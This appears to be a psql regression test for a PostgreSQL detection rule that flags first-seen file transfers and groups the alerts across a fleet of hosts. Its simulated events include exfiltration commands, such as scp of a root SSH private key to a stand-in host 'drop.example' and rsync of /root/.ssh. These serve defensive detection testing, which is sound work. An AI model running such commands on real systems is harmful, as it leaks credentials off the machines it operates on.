-- One thing that is new on many hosts or roles is one alert while that is open; what joins it is told there, and is lost nowhere.
\set ON_ERROR_ROLLBACK on
\set VERBOSITY terse
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
ALTER TABLE alerts ALTER COLUMN id RESTART WITH 1;
\set rule '''first-seen-file-transfer'''
UPDATE rules SET late_within = '3000 days' WHERE rule_id = :rule;
CREATE FUNCTION pg_temp.launch(at timestamptz, host text, command text, parent text DEFAULT '/usr/sbin/cron') RETURNS void LANGUAGE sql AS $$
	INSERT INTO transfer_detect.events (timestamp, event_id, agent_id, host_name, host_os_type, event_type, event_action, process_name, process_executable, process_command_line, process_parent_executable)
	VALUES (at, at || host, 'a', host || '.corp.example', 'linux', '{start}', '{exec}', split_part(command, ' ', 1), '/usr/bin/' || split_part(command, ' ', 1), command, parent)
$$;
CREATE FUNCTION pg_temp.hour(at timestamptz) RETURNS text LANGUAGE sql AS $$
	SELECT format('%s filed, %s extended', r.alerts_created, r.alerts_extended) FROM transfer_detect.backfill('first-seen-file-transfer', at, at + interval '1 hour') AS r
$$;
CREATE VIEW pg_temp.queue AS SELECT a.id, a.group_key ->> 'habit.space' AS space, a.risk_score AS score, a.event_count AS events,
	(SELECT array_agg(DISTINCT split_part(e ->> 'host_name', '.', 1) ORDER BY split_part(e ->> 'host_name', '.', 1)) FROM alert_events(a.id) AS e) AS hosts, r.reason
	FROM alerts AS a LEFT JOIN LATERAL unnest(a.reasons) WITH ORDINALITY AS r(reason, place) ON true WHERE a.status <> 'closed' ORDER BY a.id, r.place;
CREATE FUNCTION pg_temp.close(reason text) RETURNS bigint LANGUAGE sql AS $$
	WITH closed AS (UPDATE transfer_detect.alerts SET status = 'closed', close_reason = reason WHERE status <> 'closed' RETURNING id) SELECT count(*) FROM closed
$$;
-- what is usual: each role has its host, cron and the programs
SELECT pg_temp.launch('2026-03-10 03:00Z', h, c) FROM unnest('{web-1,web-2,db-1,app-1,mx-1}'::text[]) AS h, unnest('{rsync -a /srv/ web-1:/in,scp a web-1:}'::text[]) AS c;
SELECT events FROM learn(:rule, '2026-03-10', '2026-03-20');

-- an agent that is new in the fleet, on one role after the other, in one window and in the next
SELECT pg_temp.launch('2026-03-20 01:10Z', 'web-1', 'rsync -a /srv/ db-1:/b', '/opt/agent'), pg_temp.launch('2026-03-20 01:20Z', 'db-1', 'rsync -a /srv/ web-1:/b', '/opt/agent');
SELECT pg_temp.hour('2026-03-20 01:00Z');
SELECT pg_temp.launch('2026-03-20 02:10Z', 'app-1', 'rsync -a /srv/ db-1:/b', '/opt/agent'), pg_temp.launch('2026-03-20 02:20Z', 'web-2', 'rsync -a /srv/ web-1:/b', '/opt/agent');
SELECT pg_temp.hour('2026-03-20 02:00Z');
TABLE pg_temp.queue;
-- where more is new about the event, it is an alert of its own
SELECT pg_temp.launch('2026-03-20 02:30Z', 'mx-1', 'rsync -a /root/.ssh/ web-1:/b', '/opt/agent');
SELECT pg_temp.hour('2026-03-20 02:00Z');
TABLE pg_temp.queue;
-- the same windows again change nothing, before the alerts are closed and after
SELECT pg_temp.hour('2026-03-20 01:00Z') AS again, pg_temp.hour('2026-03-20 02:00Z') AS again;
SELECT pg_temp.close('benign');
SELECT pg_temp.hour('2026-03-20 01:00Z') AS again, pg_temp.hour('2026-03-20 02:00Z') AS again;
TABLE pg_temp.queue;
-- a role that comes when it is closed makes its own
SELECT pg_temp.launch('2026-03-20 03:10Z', 'log-1', 'rsync -a /srv/ web-1:/b', '/opt/agent');
SELECT pg_temp.hour('2026-03-20 03:00Z');
TABLE pg_temp.queue;
SELECT pg_temp.close('benign');

-- an outside host: one alert for all hosts, but for one with which more is new
SELECT pg_temp.launch('2026-03-20 05:10Z', 'web-1', 'scp a u@drop.example:');
SELECT pg_temp.hour('2026-03-20 05:00Z');
SELECT pg_temp.launch('2026-03-20 06:05Z', 'web-2', 'scp a u@drop.example:'), pg_temp.launch('2026-03-20 06:10Z', 'db-1', 'scp /root/.ssh/id_rsa u@drop.example:', '/opt/x');
SELECT pg_temp.hour('2026-03-20 06:00Z');
TABLE pg_temp.queue;
-- a true positive is loud on all hosts
SELECT pg_temp.close('true_positive');
SELECT pg_temp.launch('2026-03-20 07:10Z', 'db-1', 'scp b u@drop.example:'), pg_temp.launch('2026-03-20 07:20Z', 'mx-1', 'scp b u@drop.example:');
SELECT pg_temp.hour('2026-03-20 07:00Z');
SELECT * FROM pg_temp.queue WHERE space = 'fleet-outside-host';
SELECT pg_temp.close('benign') > 0 AS closed;
SELECT pg_temp.launch('2026-03-20 08:10Z', 'db-1', 'scp b u@drop.example:'), pg_temp.launch('2026-03-20 08:20Z', 'app-1', 'scp b u@drop.example:');
SELECT pg_temp.hour('2026-03-20 08:00Z');
TABLE pg_temp.queue;
-- taught for the fleet, it is nothing new anywhere, also when it was forgotten
SELECT pg_temp.close('benign');
SELECT teach((SELECT max(id) FROM alerts WHERE group_key ->> 'habit.space' = 'fleet-parent'), 'fleet');
SELECT pg_temp.launch('2026-05-20 08:10Z', 'web-1', 'rsync -a /srv/ web-1:/b', '/opt/agent');
SELECT pg_temp.hour('2026-05-20 08:00Z') IS NOT NULL AS ran;
SELECT count(*) FROM pg_temp.queue WHERE space LIKE '%parent';
SELECT pg_temp.close('benign') > 0 AS closed;

-- an alert that stays open takes in what comes within a day; after that each makes its own
SELECT pg_temp.launch('2026-05-21 00:10Z', 'web-1', 'rsync -a /srv/ db-1:/b', '/opt/slow'), pg_temp.launch('2026-05-22 00:09Z', 'db-1', 'rsync -a /srv/ web-1:/b', '/opt/slow'),
	pg_temp.launch('2026-05-22 00:11Z', 'app-1', 'rsync -a /srv/ web-1:/b', '/opt/slow');
SELECT pg_temp.hour('2026-05-21 00:00Z'), pg_temp.hour('2026-05-22 00:00Z');
SELECT space, events, hosts, reason FROM pg_temp.queue WHERE reason LIKE '%/opt/slow%';
-- the first was earlier: so is the end of the day
SELECT pg_temp.launch('2026-05-20 23:10Z', 'web-2', 'rsync -a /srv/ db-1:/b', '/opt/slow');
SELECT pg_temp.hour('2026-05-20 23:00Z') IS NOT NULL AS ran, pg_temp.hour('2026-05-21 00:00Z') IS NOT NULL AS ran, pg_temp.hour('2026-05-22 00:00Z') IS NOT NULL AS ran;
SELECT space, events, hosts, reason FROM pg_temp.queue WHERE reason LIKE '%/opt/slow%';
SELECT pg_temp.close('benign') > 0 AS closed;
-- an event that comes late and was the first: the alert begins there, and the one that was thought to be first joins
SELECT pg_temp.launch('2026-05-21 03:10Z', 'web-1', 'rsync -a /srv/ db-1:/b', '/opt/late');
SELECT pg_temp.hour('2026-05-21 03:00Z');
SELECT pg_temp.launch('2026-05-21 02:10Z', 'db-1', 'rsync -a /srv/ web-1:/b', '/opt/late');
SELECT pg_temp.hour('2026-05-21 02:00Z');
SELECT pg_temp.hour('2026-05-21 03:00Z');
SELECT reason FROM pg_temp.queue;
-- one that was there weeks ago already, on an alert about more than that: then the fleet's alert is none, and each role has its own
SELECT pg_temp.launch('2026-05-10 02:10Z', 'mx-1', 'rsync -a /srv/ u@elsewhere.example:/b', '/opt/late');
SELECT pg_temp.hour('2026-05-10 02:00Z') IS NOT NULL AS ran;
SELECT pg_temp.hour('2026-05-21 02:00Z') IS NOT NULL AS ran;
SELECT pg_temp.hour('2026-05-21 03:00Z') IS NOT NULL AS ran;
SELECT space, reason FROM pg_temp.queue WHERE reason LIKE '%/opt/late%' ORDER BY 2;
SELECT pg_temp.close('benign') > 0 AS closed;

-- more than can be told: a hundred reasons, and how many there are
SELECT pg_temp.launch('2026-05-22 01:00Z'::timestamptz + i * interval '1 s', 'n' || i || 'x', 'scp a u@many.example:') FROM generate_series(1, 130) AS i \g /dev/null
SELECT pg_temp.hour('2026-05-22 01:00Z') IS NOT NULL AS ran;
SELECT cardinality(host_names) AS hosts, cardinality(reasons) AS reasons, reasons[cardinality(reasons)] AS last FROM alerts WHERE group_key -> 'habit.key' = '["many.example"]';
-- without it, as it was: each host and each role
UPDATE habit_spaces SET within = NULL WHERE rule_id = :rule;
UPDATE habit_spaces SET enabled = false WHERE rule_id = :rule AND space LIKE 'fleet-%';
SELECT pg_temp.launch('2026-05-23 01:10Z', h, 'scp a u@other.example:') FROM unnest('{web-1,web-2}'::text[]) AS h;
SELECT pg_temp.hour('2026-05-23 01:00Z') IS NOT NULL AS ran;
SELECT reason FROM pg_temp.queue WHERE reason LIKE '%other.example%' ORDER BY 1;
-- checked
UPDATE habit_spaces SET within = 'nothing' WHERE rule_id = :rule AND space = 'parent';
UPDATE habit_spaces SET within = 'sender' WHERE rule_id = :rule AND space = 'parent';
UPDATE habit_spaces SET within = 'fleet-parent' WHERE rule_id = :rule AND space = 'program';
ROLLBACK;
